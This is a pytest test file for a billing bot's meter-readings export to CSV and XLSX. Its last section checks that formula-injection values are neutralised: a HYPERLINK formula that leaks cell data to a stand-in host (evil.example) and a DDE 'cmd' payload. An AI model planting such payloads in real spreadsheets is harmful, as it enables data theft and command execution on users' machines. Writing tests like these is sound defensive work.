"""Readings export for billing: rows, CSV, XLSX, the staff /export command and the CLI."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from bot.services import export
from bot.services import readings as svc
from storage.models import Account, Meter, Premises, Reading
from tests.conftest import STAFF_CHAT_ID
from tests.factories import RSO_OGRN, UK_OGRN, link, world

D = Decimal
TZ = ZoneInfo("Europe/Moscow")
W = svc.Window(20, 25)
USER = 111
TODAY = dt.date(2026, 11, 19)
NOW = dt.datetime(2026, 11, 19, 9, 0)  # 12:00 Moscow


async def fill(sessions):
    w = await world(sessions)
    await link(sessions, USER, w.account, w.power_account)
    # a typo, then the correction: only the correction counts
    await svc.save_reading(sessions, USER, w.cold.id, (D(150),), dt.date(2026, 11, 17), TODAY, NOW, W)
    await svc.save_reading(sessions, USER, w.cold.id, (D("105.5"),), dt.date(2026, 11, 18), TODAY,
                           NOW + dt.timedelta(minutes=5), W)
    await svc.save_reading(sessions, USER, w.power.id, (D(1300), D("550.5")), TODAY, TODAY, NOW, W)
    # another period: not in November's file
    dec = dt.date(2026, 11, 27)
    await svc.save_reading(sessions, USER, w.hot.id, (D(52),), dec, dec, NOW, W)
    return w


async def test_rows_hand_computed(sessions):
    await fill(sessions)
    rows = await export.export_rows(sessions, "2026-11", TZ)
    got = [(r.provider_ogrn, r.account, r.serial, r.resource, r.zone, r.previous, r.value, r.consumption, r.taken_on)
           for r in rows]
    assert got == [  # by provider OGRN: the УК's 1027… before the РСО's 1057…
        (UK_OGRN, "1234567890", "ХВ-001", "Холодная вода", "", D("100.000"), D("105.500"), D("5.500"),
         dt.date(2026, 11, 18)),
        (RSO_OGRN, "ЭЛ-0012", "Э-777", "Электроэнергия", "день", D("1200.000"), D("1300.000"), D("100.000"), TODAY),
        (RSO_OGRN, "ЭЛ-0012", "Э-777", "Электроэнергия", "ночь", D("500.000"), D("550.500"), D("50.500"), TODAY),
    ]
    cold = rows[0]
    assert cold.address == "г. Москва, ул. Бауманская, д. 44" and cold.premises == "кв. 12"
    assert cold.submitted_at == dt.datetime(2026, 11, 19, 12, 5)  # local time
    assert [r.serial for r in await export.export_rows(sessions, "2026-12", TZ)] == ["ГВ-001"]
    only_uk = await export.export_rows(sessions, "2026-11", TZ, UK_OGRN)
    assert [r.serial for r in only_uk] == ["ХВ-001"]


async def test_csv_and_xlsx(sessions):
    await fill(sessions)
    data, n = await export.export_readings(sessions, "2026-11", "csv", TZ)
    assert n == 3 and data.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert lines[0] == list(export.HEADERS)
    cold = next(line for line in lines if "ХВ-001" in line)
    assert cold == [UK_OGRN, "1234567890", "г. Москва, ул. Бауманская, д. 44", "кв. 12", "ХВ-001", "Холодная вода",
                    "", "100,000", "105,500", "5,500", "18.11.2026", "19.11.2026 12:05"]
    data, n = await export.export_readings(sessions, "2026-11", "xlsx", TZ)
    ws = load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == export.HEADERS and len(rows) == 4
    cold = next(r for r in rows if r[4] == "ХВ-001")
    assert cold[7:10] == (100, 105.5, 5.5) and cold[10].date() == dt.date(2026, 11, 18)


def test_valid_period():
    assert export.valid_period("2026-11") == "2026-11"
    assert export.valid_period("2026.1") == "2026-01"
    assert export.valid_period("11.2026") == "2026-11"
    assert export.valid_period("2026-13") is None
    assert export.valid_period("ноябрь") is None


async def test_staff_export_sends_a_document(staff, bot, sessions):
    await fill(sessions)
    replies = await staff.send("/export 2026-11")
    (doc,) = [r for r in replies if r.method == "sendDocument"]
    assert doc.chat_id == STAFF_CHAT_ID and "ноябрь 2026" in doc.text and "3" in doc.text
    upload = doc.raw.document
    assert upload.filename == "readings_2026-11.xlsx"
    ws = load_workbook(io.BytesIO(upload.data)).active
    assert any(r[4] == "ХВ-001" for r in ws.iter_rows(values_only=True))
    replies = await staff.send("/export 2026-11 csv")
    assert replies[-1].raw.document.filename == "readings_2026-11.csv"
    assert "ХВ-001" in replies[-1].raw.document.data.decode("utf-8-sig")


async def test_staff_export_bad_period_shows_usage(staff, sessions):
    (reply,) = await staff.send("/export ноябрь")
    assert reply.method == "sendMessage" and "/export 2026-11" in reply.text
    (reply,) = await staff.send("/export 2026-11 pdf")
    assert "CSV" in reply.text


async def test_staff_export_of_one_provider(staff, sessions):
    await fill(sessions)
    replies = await staff.send(f"/export 2026-11 csv {RSO_OGRN}")
    doc = replies[-1]
    assert doc.raw.document.filename == f"readings_2026-11_{RSO_OGRN}.csv" and f"ОГРН {RSO_OGRN}" in doc.text
    body = doc.raw.document.data.decode("utf-8-sig")
    assert RSO_OGRN in body and UK_OGRN not in body
    (reply,) = await staff.send("/export 2026-11 1027700000000")
    assert reply.method == "sendMessage" and "нет в базе" in reply.text
    (reply,) = await staff.send(f"/export 2026-11 csv xlsx {RSO_OGRN}")
    assert reply.method == "sendMessage" and "/export ГГГГ-ММ" in reply.text


async def test_residents_cannot_export(client, sessions):
    await fill(sessions)
    replies = await client.send("/export 2026-11")
    assert all(r.method != "sendDocument" for r in replies)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_export(tmp_path, monkeypatch, fmt):
    from bot.__main__ import main
    from storage.db import create_engine, session_factory

    monkeypatch.chdir(tmp_path)  # no .env of the developer
    url = f"sqlite+aiosqlite:///{tmp_path / 'cli.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    assert main(["migrate"]) == 0

    async def seed() -> None:
        engine = create_engine(url)
        await fill(session_factory(engine))
        await engine.dispose()

    asyncio.run(seed())
    assert main(["export", "readings", "--period", "2026-11", "--format", fmt]) == 0
    out = tmp_path / f"readings_2026-11.{fmt}"
    assert out.exists()
    if fmt == "csv":
        assert "ХВ-001" in out.read_text("utf-8-sig")
    assert main(["export", "readings", "--period", "2026-11", "--provider", RSO_OGRN, "--format", fmt,
                 "-o", "rso." + fmt]) == 0
    if fmt == "csv":
        text = (tmp_path / "rso.csv").read_text("utf-8-sig")
        assert "Э-777" in text and "ХВ-001" not in text
    assert main(["export", "readings", "--period", "ноябрь", "--format", fmt]) == 2
    # QA: a mistyped ОГРН gave an empty file and exit code 0, as if nobody had sent readings
    assert main(["export", "readings", "--period", "2026-11", "--provider", "1027700000001", "--format", fmt,
                 "-o", "typo." + fmt]) == 2
    assert not (tmp_path / ("typo." + fmt)).exists()


async def test_a_next_period_reading_of_the_same_day_is_not_the_previous_value(sessions):
    """QA: a reading sent on the 25th (November) and another one sent on the 26th but dated the 25th (it counts
    for December): November's file kept showing the December value as «previous» and a negative consumption."""
    w = await world(sessions)
    await link(sessions, USER, w.account)
    nov, dec = dt.date(2026, 11, 25), dt.date(2026, 11, 26)
    await svc.save_reading(sessions, USER, w.cold.id, (D(106),), nov, nov, NOW, W)
    saved = await svc.save_reading(sessions, USER, w.cold.id, (D(109),), nov, dec, NOW + dt.timedelta(days=1), W)
    assert saved.period.period == "2026-12"
    (row,) = await export.export_rows(sessions, "2026-11", TZ)
    assert (row.previous, row.value, row.consumption) == (D("100.000"), D("106.000"), D("6.000"))
    (row,) = await export.export_rows(sessions, "2026-12", TZ)
    assert (row.previous, row.value, row.consumption) == (D("106.000"), D("109.000"), D("3.000"))


async def test_the_registry_echo_of_a_reading_is_not_its_previous_value(sessions):
    """QA: the billing system accepts the bot's reading and the next registry import carries it as the meter's
    last value (same date, same value). November's file then said previous = the reading itself, consumption 0,
    and the chart lost November's bar."""
    w = await world(sessions)
    await link(sessions, USER, w.account)
    async with sessions.begin() as s:  # October's reading, sent through the bot (registry: 100 on 20.10)
        s.add(Reading(meter_id=w.cold.id, value=D(103), taken_on=dt.date(2026, 10, 25), period="2026-10",
                      user_id=USER, submitted_at=dt.datetime(2026, 10, 25, 9, 0)))
    nov = dt.date(2026, 11, 18)
    await svc.save_reading(sessions, USER, w.cold.id, (D(107),), nov, TODAY, NOW, W)
    async with sessions.begin() as s:  # the import that brings November's accepted value back
        await s.execute(update(Meter).where(Meter.id == w.cold.id).values(last_value=D(107), last_read_on=nov))
    (row,) = await export.export_rows(sessions, "2026-11", TZ)
    assert (row.previous, row.value, row.consumption) == (D("103.000"), D("107.000"), D("4.000"))
    (cold,) = await svc.monthly_consumption(sessions, USER, TODAY, W)
    assert dict(zip(cold.periods, cold.values, strict=True))["2026-11"] == D(4)
    info = await svc.get_meter(sessions, USER, w.cold.id, TODAY, W)
    assert svc.registry_point_of(info) == svc.Point((D(107),), nov)  # history still says what the УК accepted
    assert info.last.values == (D(107),) and info.last.reading_id is not None


async def test_previous_value_survives_the_registry_echoing_the_reading(sessions):
    """The billing system accepts the bot's reading and the next import makes it the meter's last value: the
    registry's earlier value is gone from the meter, yet the export still shows what the reading was counted from."""
    w = await world(sessions)
    await link(sessions, USER, w.power_account)
    await svc.save_reading(sessions, USER, w.power.id, (D(1300), D("550.5")), TODAY, TODAY, NOW, W)
    async with sessions.begin() as s:  # the import: the meter's last value is now the bot's reading
        await s.execute(update(Meter).where(Meter.id == w.power.id).values(
            last_value=D(1300), last_value_t2=D("550.5"), last_read_on=TODAY))
    rows = await export.export_rows(sessions, "2026-11", TZ)
    assert [(r.zone, r.previous, r.value, r.consumption) for r in rows] == [
        ("день", D("1200.000"), D("1300.000"), D("100.000")),
        ("ночь", D("500.000"), D("550.500"), D("50.500")),
    ]


# ------------------------------------------------------------------------------------------- formula injection

HOSTILE_SERIAL = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'


async def hostile_texts(sessions):
    """Registry text that a spreadsheet would run: a serial «=HYPERLINK(…)», an account «-1234» (a valid
    account number: letters, digits, dashes), a premises «@SUM(1)» and a tab and a CR at the start."""
    w = await fill(sessions)
    async with sessions() as s:
        await s.execute(update(Meter).where(Meter.id == w.cold.id).values(serial_number=HOSTILE_SERIAL))
        await s.execute(update(Meter).where(Meter.id == w.power.id).values(serial_number="+\tcmd|' /C calc'!A0"))
        await s.execute(update(Account).where(Account.id == w.account.id).values(account_number="-1234"))
        await s.execute(update(Premises).where(Premises.id == w.account.premises_id).values(number="\r@SUM(1)"))
        await s.commit()
    return w


async def test_formula_like_registry_text_is_text_in_the_csv(sessions):
    await hostile_texts(sessions)
    data, n = await export.export_readings(sessions, "2026-11", "csv", TZ)
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    cold = next(line for line in lines[1:] if "HYPERLINK" in line[4])
    assert cold[4] == "'" + HOSTILE_SERIAL  # the apostrophe: a spreadsheet shows the text, runs nothing
    assert cold[1] == "'-1234"
    assert cold[3].startswith("'") and "@SUM(1)" in cold[3]
    assert cold[7:10] == ["100,000", "105,500", "5,500"]  # numbers are numbers, not prefixed
    power = [line for line in lines[1:] if "calc" in line[4]]
    assert len(power) == 2 and all(line[4] == "'+\tcmd|' /C calc'!A0" for line in power)
    # no cell of the file starts with a formula character any more
    assert not any(export.is_formula_like(cell) for line in lines for cell in line[:7])


async def test_formula_like_registry_text_is_a_string_cell_in_the_xlsx(sessions):
    await hostile_texts(sessions)
    data, _ = await export.export_readings(sessions, "2026-11", "xlsx", TZ)
    for data_only in (False, True):  # as written, and as Excel's cached values would be read
        ws = load_workbook(io.BytesIO(data), data_only=data_only).active
        cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
        serial = cells[HOSTILE_SERIAL]
        assert serial.data_type == "s" and serial.quotePrefix  # a string, not a formula
        assert cells["-1234"].data_type == "s"
        assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    assert b"<f>" not in _sheet_xml(data)


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize(("value", "formula"), [
    ("=1+1", True), ("+79161234567", True), ("-5", True), ("@SUM(A1)", True), ("\tx", True), ("\rx", True),
    ("ХВ-001", False), ("a=b", False), ("", False), (" =1", False),
])
def test_the_one_rule(value, formula):
    assert export.is_formula_like(value) is formula
    assert export.csv_text(value) == ("'" + value if formula else value)
